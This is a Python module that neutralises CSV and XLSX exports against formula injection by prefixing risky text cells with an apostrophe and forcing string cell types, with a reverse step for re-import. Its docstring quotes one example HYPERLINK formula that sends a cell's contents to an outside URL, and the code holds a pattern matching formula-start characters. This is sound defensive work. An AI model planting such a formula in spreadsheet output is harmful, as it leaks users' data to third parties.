"""The one writer of spreadsheet-bound text: no cell of ours opens as a formula.

A reason, a reminder or a name is free text typed by users; a spreadsheet program opening a
CSV evaluates a cell that starts with ``=``, ``+``, ``-``, ``@``, tab or carriage return
(``=HYPERLINK("http://…?leak="&A1, …)`` sends the row away). Following the OWASP "CSV
injection" guidance, such a text cell gets a leading apostrophe, which the spreadsheet shows as
text. XLSX cells are written as typed strings (never the formula type), so the value is kept
exactly. Used by the app's exports (``congvu.web.views.inspect``, ``export_log``) and by the
``congvu analyze`` outputs; this module imports neither Django nor openpyxl at load time.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import IO, Any, TypeVar

import polars as pl

# A cell needing the prefix: a formula start, after any apostrophes. Prefixing "'=x" too (to
# "''=x") keeps the transformation reversible, so our own loader reads back exactly what was
# exported (``restore_frame``).
_PATTERN = r"^'*[=+\-@\t\r]"
_RESTORE = r"^'+[=+\-@\t\r]"
_NEEDS = re.compile(_PATTERN)


def neutralise(value: object) -> object:
    """A text cell that a spreadsheet would evaluate, prefixed with ``'``; anything else as is.
    Numbers stay numbers (``-3`` typed as an int is not text and is not touched)."""
    if isinstance(value, str) and _NEEDS.match(value):
        return "'" + value
    return value


def neutralise_row(values: Iterable[object]) -> list[object]:
    return [neutralise(v) for v in values]


def neutralise_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """Every text column of ``frame`` neutralised (vectorised: one pass per text column)."""
    text = [c for c, t in frame.schema.items() if t == pl.String]
    if not text:
        return frame
    return frame.with_columns(
        pl.when(pl.col(c).str.contains(_PATTERN))
        .then(pl.lit("'") + pl.col(c))
        .otherwise(pl.col(c))
        .alias(c)
        for c in text
    )


_Frame = TypeVar("_Frame", pl.DataFrame, pl.LazyFrame)


def restore_frame(frame: _Frame) -> _Frame:
    """The inverse of ``neutralise_frame``: for reading our own CSV export back (eager, or lazy
    while the file streams in)."""
    text = [c for c, t in frame.collect_schema().items() if t == pl.String]
    return frame.with_columns(
        pl.when(pl.col(c).str.contains(_RESTORE))
        .then(pl.col(c).str.slice(1))
        .otherwise(pl.col(c))
        .alias(c)
        for c in text
    )


def write_frame_csv(
    frame: pl.DataFrame, target: str | Path | IO[bytes], *, include_header: bool = True
) -> None:
    """``frame.write_csv`` with every text cell neutralised (the header is ours, not user text)."""
    neutralise_frame(frame).write_csv(target, include_header=include_header)


class SafeCsvWriter:
    """``csv.writer`` whose rows are neutralised: the app's streaming CSV exports."""

    def __init__(self, fh: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(fh, **kwargs)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow(neutralise_row(row))


def xlsx_text_cells(sheet: Any, values: Sequence[object]) -> list[Any]:
    """Cells for openpyxl's write-only ``sheet.append``: text typed as a string, never as a
    formula (openpyxl makes any text starting with ``=`` a formula cell)."""
    from openpyxl.cell import WriteOnlyCell

    cells = []
    for value in values:
        cell = WriteOnlyCell(sheet, value=value)
        if isinstance(value, str):
            cell.data_type = "s"
        cells.append(cell)
    return cells


def defuse_workbook(book: Any) -> int:
    """Turn every formula cell of an openpyxl workbook built from our data back into the text it
    was given; returns how many. For the documents that fill cells one by one."""
    n = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
                    n += 1
    return n


def defused_bytes(book: Any) -> bytes:
    """The workbook's file, after :func:`defuse_workbook`: what a document built cell by cell
    hands out (issue #12: user text never opens as a formula)."""
    defuse_workbook(book)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
